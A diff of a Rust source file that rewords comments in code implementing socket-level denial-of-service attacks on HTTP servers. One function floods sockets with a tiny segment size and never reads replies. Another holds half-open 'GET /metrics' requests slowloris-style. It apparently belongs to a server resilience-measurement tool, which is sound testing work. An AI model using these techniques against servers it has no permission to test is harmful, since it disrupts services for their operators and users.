@@ -1,4 +1,4 @@
-//! Attacks by sockets of the kernel.
+//! Attacks with kernel sockets.
 
 use super::{Course, Target};
 use rustix::io::Errno;
@@ -8,36 +8,37 @@ use std::net::SocketAddr;
 use std::thread;
 use std::time::{Duration, Instant};
 
-/// Maximum segment size that a socket offers: the least that Linux lets a program set.
+/// MSS of a socket: the minimum that Linux permits.
 const SEGMENT: u32 = 88;
-/// Receive buffer of a socket: the least that Linux grants is some more.
+/// Receive buffer of a socket; Linux raises it to its minimum.
 const RECEIVE_BUFFER: usize = 2048;
 const SEND_BUFFER: usize = 16 << 10;
-/// Time between two attempts to write on all sockets.
+/// Interval of writes to all sockets.
 const PERIOD: Duration = Duration::from_millis(10);
-/// Connections that are begun in such a time.
+/// Maximum number of connection attempts per interval.
 const CONNECTS: usize = 100;
-/// Part of a request that does not end, however often it is repeated.
+/// Part of an HTTP request that remains incomplete when repeated.
 const UNFINISHED: &[u8] = b"GET /metrics HTTP/1.1\r\nA: a";
-/// Attempts without a write, one after the other, after which the server takes no more.
+/// Consecutive intervals without a write after which the server counts as accepting no more.
 const REFUSALS: u32 = 10;
-/// Time between two of these on a socket.
+/// Interval of these writes.
 const HEADER_PERIOD: Duration = Duration::from_millis(100);
 
-/// Writes requests on `count` sockets and reads no answer. Connects again where the server ends a connection.
+/// Writes requests to `count` sockets and reads no answer. Reconnects if the server closes a connection.
 pub fn do_not_read(target: &Target, count: usize, course: &Course) -> io::Result<()> {
     let requests: Vec<u8> = target.request.iter().copied().cycle().take(target.request.len().max(16 << 10)).collect();
     let to = SocketAddr::V4(target.address);
     write_on_all(count, PERIOD, true, course, || connect(to, true), &requests)
 }
 
-/// Begins an HTTP request on each of `count` sockets, adds to its header, and does not end it.
+/// Sends an HTTP request on each of `count` sockets and extends its header without completing it.
 pub fn half_open_requests(to: SocketAddr, count: usize, course: &Course) -> io::Result<()> {
     write_on_all(count, HEADER_PERIOD, false, course, || connect(to, false), UNFINISHED)
 }
 
-/// Writes `bytes` on all sockets every `period`, as far as there is room, and counts the writes. The attack begins when all sockets are
-/// connected and, if `until_refused` is true, when none has had room for a time: until then its traffic would be measured.
+/// Writes `bytes` to all sockets every `period`, as far as buffers permit, and counts the writes. The attack starts when all
+/// sockets are connected and, if `until_refused` is true, when all buffers have been full for a time; the traffic until
+/// then is not part of the measurement.
 fn write_on_all(
     count: usize,
     period: Duration,
@@ -62,7 +63,7 @@ fn write_on_all(
                 Some(socket) => match socket.write(bytes) {
                     Ok(_) => written += 1,
                     Err(error) if error.kind() == ErrorKind::WouldBlock => {}
-                    // The server has ended the connection.
+                    // The server has closed the connection.
                     Err(_) => *place = None,
                 },
             }
